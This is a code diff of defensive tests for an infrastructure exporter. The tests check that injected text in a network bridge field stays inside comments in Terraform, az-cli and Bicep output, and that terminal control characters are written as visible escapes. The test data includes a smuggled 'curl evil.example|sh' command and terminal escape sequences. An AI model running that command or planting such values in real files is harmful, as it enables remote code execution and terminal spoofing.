@@ -438,24 +438,42 @@ describe('Bicep', () => {
 describe('what a plan holds cannot become code', () => {
   const hostile: PlanInput = {
     name: '1prod_weu_cluster',
-    network: {
-      plugin: 'azure-cni-node-subnet',
-      nodeSubnet: '10.240.0.0/24',
-      dockerBridgeCidr: '172.17.0.1/16\ncurl evil.example|sh\n#',
-    },
+    network: { plugin: 'azure-cni-node-subnet', nodeSubnet: '10.240.0.0/24' },
     nodePools: [{ name: 'system', nodeCount: 3 }],
   };
+  // A plan refuses such a bridge (validation.test.ts); a restored dump is not checked again.
+  const withBridge = (dockerBridgeCidr: string) =>
+    loadDesign(
+      { ...planDesign(hostile).spec, network: { ...planDesign(hostile).spec.network, dockerBridgeCidr } },
+      [],
+    );
 
   it.each([
     ['terraform', '#'],
     ['az-cli', '#'],
     ['bicep', '//'],
   ] as const)('%s keeps a line break of free text inside its comment', (format, marker) => {
-    const text = exported(hostile, format);
+    const text = exportDesign(withBridge('172.17.0.1/16\ncurl evil.example|sh\n#'), format, 'a dump').text;
     const lines = text.split('\n').filter((line) => line.includes('evil.example'));
     expect(lines).toHaveLength(1);
     expect(lines[0]?.trimStart().startsWith(marker)).toBe(true);
   });
+
+  it.each(['terraform', 'az-cli', 'bicep'] as const)(
+    '%s writes control and bidirectional characters of a comment as escapes a reader sees',
+    (format) => {
+      // A terminal that prints the file would retitle itself, erase lines and reverse text.
+      const text = exportDesign(withBridge('\u001b]0;x\u0007\u001b[2K\u202e\u009b8m'), format, 'a dump').text;
+      expect(text).toContain('\\u001b]0;x\\u0007\\u001b[2K\\u202e\\u009b8m');
+      const hidden = [...text].filter((c) => {
+        const code = c.codePointAt(0) ?? 0;
+        return (
+          (code < 0x20 && c !== '\n') || (code >= 0x7f && code <= 0x9f) || (code >= 0x202a && code <= 0x202e)
+        );
+      });
+      expect(hidden).toEqual([]);
+    },
+  );
 
   it('writes template markers and line breaks of a stored name as text, never as code', () => {
     // Names are checked when a plan is written; a restored dump's are not checked again.
